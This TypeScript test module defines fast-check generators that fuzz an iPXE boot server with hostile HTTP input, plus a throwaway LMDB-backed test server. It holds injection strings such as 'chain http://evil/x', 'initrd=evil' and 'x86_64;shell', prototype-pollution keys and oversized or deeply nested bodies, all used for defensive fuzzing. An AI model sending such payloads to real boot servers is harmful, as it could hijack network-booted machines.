// fast-check generators for hostile HTTP input (test/fuzz-*.test.ts): text that tries to break out of an
// iPXE script or a JSON body, MAC-ish path segments, query strings and Authorization headers, and a fuzz
// server on a temp LMDB store. What an attacker on the boot network can send, as shrinkable values.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import type { FastifyInstance } from 'fastify';
import { buildServer, type BootServerDeps } from '../boot/server.js';
import { LmdbStore } from '../store/lmdb.js';

/** iPXE script syntax, shell-ish separators, encodings and look-alikes: each one a way out of a value. */
export const NASTY = [
  '${', '}', '${net0/mac}', '${platform}', ';', '||', '&&', '|', '#', ' ', '\t', '\n', '\r', '\r\n', '\0', "'", '"', '`', '\\', ':', '-', '..', '../',
  '%0a', '%0d', '%00', '%20', '%24%7B', '%2e%2e%2f', '%ff%fe', '%', '%%', '%zz', '&', '=', '?', '+', ',', '~', '@',
  'chain http://evil/x', 'shell', 'goto failed', ':failed', 'imgexec', 'initrd=evil', 'dragonfly.token=', 'console=ttyS0',
  '\u202e', '\u2028', '\u0085', '\ufeff', '\u00a0', 'ff', 'FF', '52:54:00:ab:cd:01', 'efi', 'pcbios', 'x86_64',
] as const;

/** Hostile text: random Unicode (lone surrogates too), or a run of the tokens above glued with random ASCII. */
export function hostileText(maxLength = 40): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 2, arbitrary: fc.array(fc.oneof(fc.constantFrom(...NASTY), fc.string({ maxLength: 4 })), { maxLength: Math.max(1, Math.floor(maxLength / 4)) }).map((xs) => xs.join('')) },
    { weight: 1, arbitrary: fc.string({ maxLength }) },
    { weight: 1, arbitrary: fc.string({ maxLength, unit: 'grapheme' }) },
    { weight: 1, arbitrary: fc.string({ maxLength, unit: 'binary' }) },
  );
}

const hexPair = fc.nat(255).map((b) => b.toString(16).padStart(2, '0'));
const sixPairs = fc.array(hexPair, { minLength: 6, maxLength: 6 });

/** One of `size` fixed NIC addresses (52:54:00:…, QEMU's prefix), so that a run meets the same machines again. */
const pooledPairs = (size: number) =>
  fc.nat(size - 1).map((i) => {
    const n = Math.imul(i + 1, 2654435761) >>> 8; // spread the index over three bytes
    return ['52', '54', '00', ...[n >> 16, n >> 8, n].map((b) => (b & 0xff).toString(16).padStart(2, '0'))];
  });

/**
 * What a client can put where the MAC goes in GET /boot/:mac: real MACs in every spelling (case, ':' or '-',
 * multicast and all-zero ones), near misses (mixed separators, a pair too many or too few, non-hex, Unicode
 * digits, padding) and hostile text. With `pool`, most real MACs come from that many fixed ones: each new MAC
 * is a store commit, and known MACs take the other path (seen-time batching, the name in the script).
 */
export function macLike(opts: { pool?: number } = {}): fc.Arbitrary<string> {
  const real = opts.pool ? fc.oneof({ weight: 3, arbitrary: pooledPairs(opts.pool) }, { weight: 1, arbitrary: sixPairs }) : sixPairs;
  return fc.oneof(
    { weight: 4, arbitrary: fc.tuple(real, fc.constantFrom(':', '-')).chain(([pairs, sep]) => fc.mixedCase(fc.constant(pairs.join(sep)))) },
    { weight: 1, arbitrary: fc.constantFrom('00:00:00:00:00:00', 'ff:ff:ff:ff:ff:ff', '01:00:5e:00:00:01', '33:33:00:00:00:01', '52:54:00:ab:cd:01', '52-54-00-AB-CD-01') },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.array(hexPair, { minLength: 1, maxLength: 8 }), fc.array(fc.constantFrom(':', '-', '', '.', ' ', '%3A', '::', '\n', '%0a', ':\u0000'), { minLength: 7, maxLength: 7 }))
        .map(([pairs, seps]) => pairs.map((p, i) => (i === 0 ? p : seps[i - 1] + p)).join('')),
    },
    { weight: 1, arbitrary: fc.tuple(real, hostileText(6), fc.nat(16)).map(([pairs, junk, at]) => { const s = pairs.join(':'); return s.slice(0, at) + junk + s.slice(at); }) },
    { weight: 1, arbitrary: fc.tuple(real, fc.constantFrom('\uff10', '\u0660', 'g', 'G', 'x', '\u0131', '\u212a')).map(([pairs, odd]) => pairs.join(':').replace(/[0-9a-f]/, odd)) },
    { weight: 1, arbitrary: hostileText(24) },
  );
}

/** A query string value: well-formed for its key (arch, platform, uuid), or hostile. */
export const queryValue = (key: string): fc.Arbitrary<string> => {
  const good =
    key === 'arch' ? fc.constantFrom('x86_64', 'i386', 'arm64', 'X86_64', 'x86_64;shell')
    : key === 'platform' ? fc.constantFrom('efi', 'pcbios', 'EFI', 'efi ', 'efi\nshell', 'efiefiefi')
    : key === 'uuid' ? fc.uuid().chain((u) => fc.constantFrom(u, u.toUpperCase(), u.replaceAll('-', ''), `${u}--`, `${u};`))
    : fc.string({ maxLength: 8 });
  return fc.oneof(good, hostileText(48));
};

/** How a value reaches the query string: percent-encoded as a client should, or raw (printable ASCII only, as on the wire). */
const encodedValue = (v: fc.Arbitrary<string>) =>
  fc.tuple(v, fc.constantFrom('encoded', 'encoded', 'raw')).map(([s, how]) => (how === 'encoded' ? encodeURIComponent(s.replace(/[\uD800-\uDFFF]/g, '?')) : s.replace(/[^\x21-\x7e]/g, '')));

/** `?arch=…&platform=…&uuid=…&junk…`: any subset, any order, repeated keys, junk keys, an empty or absent string. */
export const queryString: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom('arch', 'platform', 'uuid').chain((k) => encodedValue(queryValue(k)).map((v) => `${k}=${v}`)) },
      { weight: 1, arbitrary: fc.tuple(encodedValue(fc.oneof(fc.constantFrom('__proto__', 'constructor', 'arch[]', 'platform[0]', 'ARCH', ''), hostileText(8))), encodedValue(hostileText(16))).map(([k, v]) => `${k}=${v}`) },
      { weight: 1, arbitrary: fc.constantFrom('arch', 'platform=', '=', '&', '&&', 'uuid', '%', '%zz=1') },
    ),
    { maxLength: 6 },
  )
  .chain((parts) => fc.constantFrom(parts.length ? `?${parts.join('&')}` : '', `?${parts.join('&')}`));

/** Header values as they can arrive (visible ASCII, spaces, obs-text); a real header cannot hold a CR or LF. */
const headerSafe = (s: string) => s.replace(/[^\t\x20-\x7e\x80-\xff]/g, '');

/** Authorization headers: absent, malformed, other schemes, random bearer tokens (hex ones too), or one of `known` (tokens that must not open what is asked). */
export function authorization(known: readonly string[] = []): fc.Arbitrary<string | undefined> {
  const hex64 = fc.array(fc.constantFrom(...'0123456789abcdef'), { minLength: 64, maxLength: 64 }).map((xs) => xs.join(''));
  const token = fc.oneof(hex64, hex64.map((h) => h.toUpperCase()), fc.string({ maxLength: 80 }), hostileText(40), ...(known.length ? [fc.constantFrom(...known)] : []));
  return fc.oneof(
    fc.constant(undefined),
    token.map((t) => headerSafe(`Bearer ${t}`)),
    fc.tuple(fc.constantFrom('bearer ', 'BEARER  ', 'Bearer', 'Basic ', 'Token ', '', 'Bearer  '), token, fc.constantFrom('', ' ', '  x')).map(([scheme, t, tail]) => headerSafe(`${scheme}${t}${tail}`)),
  );
}

/** Any JSON value, deep or wide, with the keys our schemas know and the keys that hurt objects. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 6 }),
  fc.anything({ maxDepth: 4, key: fc.oneof(fc.string(), fc.constantFrom('mac', 'hardware', 'disks', 'nics', 'state', 'secret', 'workflow', 'waitSeconds', '__proto__', 'constructor', 'prototype', 'toString')), withNullPrototype: true, withBoxedValues: true, withSparseArray: true, withBigInt: false }),
  // Nesting a little deeper than fc.jsonValue goes (bodyText has the very deep kind, as text).
  fc.integer({ min: 1, max: 200 }).map((depth) => JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as unknown),
  fc.nat(200).map((depth) => JSON.parse('{"a":'.repeat(depth) + '1' + '}'.repeat(depth)) as unknown),
);

/** A request body as sent: JSON of a value, a JSON value's own text, or raw bytes that are not JSON at all. */
export function bodyText(value: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 30, arbitrary: value.map((v) => JSON.stringify(v) ?? 'null') },
    { weight: 3, arbitrary: fc.json({ maxDepth: 4 }) },
    { weight: 3, arbitrary: hostileText(200) },
    { weight: 3, arbitrary: value.map((v) => (JSON.stringify(v) ?? '').slice(0, -1)) }, // truncated JSON
    // Rarely, as they are slow to send: very deep nesting up to the body limit (a parser, prototype scan or
    // validator that recurses must not fall over), and a huge string within and just past the 256 KiB limit.
    {
      weight: 1,
      arbitrary: fc.oneof(
        fc.tuple(fc.integer({ min: 1, max: 120_000 }), fc.constantFrom('[', '{"a":', '{"mac":"52:54:00:00:00:03","hardware":{"disks":[],"nics":[]},"x":')).map(([depth, open]) => (open === '[' ? '['.repeat(depth) + ']'.repeat(depth) : open.repeat(depth) + '1' + '}'.repeat(depth))),
        fc.tuple(fc.integer({ min: 250_000, max: 270_000 }), fc.constantFrom('"', '{"mac":"', '{"hardware":{"disks":[],"nics":[]},"mac":"52:54:00:00:00:02","agentVersion":"')).map(([n, head]) => `${head}${'A'.repeat(n)}"${head === '"' ? '' : '}'}`),
      ),
    },
  );
}

/** Content types a client may claim for its body. */
export const contentType: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 8, arbitrary: fc.constant('application/json') },
  { weight: 1, arbitrary: fc.constantFrom(undefined, 'application/json; charset=utf-8', 'APPLICATION/JSON', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=latin1', '') },
  { weight: 1, arbitrary: fc.string({ maxLength: 30 }).map((s) => s.replace(/[^\x20-\x7e]/g, '')) },
);

export interface FuzzServer {
  app: FastifyInstance;
  store: LmdbStore;
  close(): Promise<void>;
}

/**
 * The real boot server on a temp LMDB store, with discovery and registration budgets no fuzz run reaches.
 * The store goes to /dev/shm when there is one: thousands of commits, each an fsync on a disk, would make the
 * run wait on the disk rather than on the code under test.
 */
export async function fuzzServer(extra: Partial<BootServerDeps> = {}): Promise<FuzzServer> {
  const tmp = fs.existsSync('/dev/shm') && fs.statSync('/dev/shm').isDirectory() ? '/dev/shm' : os.tmpdir();
  const dir = fs.mkdtempSync(path.join(tmp, 'dragonfly-fuzz-'));
  const store = LmdbStore.open(dir);
  const app = await buildServer({
    store,
    secret: Buffer.alloc(32, 9),
    serverUrl: 'http://10.0.0.1:8080',
    discoveryPerMinute: 1_000_000,
    maxDiscovered: 1_000_000,
    registrationsPerMinute: 1_000_000,
    timeoutSweepMs: 0,
    ...extra,
  });
  await app.ready();
  return {
    app,
    store,
    close: async () => {
      await app.close();
      await store.close();
      fs.rmSync(dir, { recursive: true, force: true });
    },
  };
}
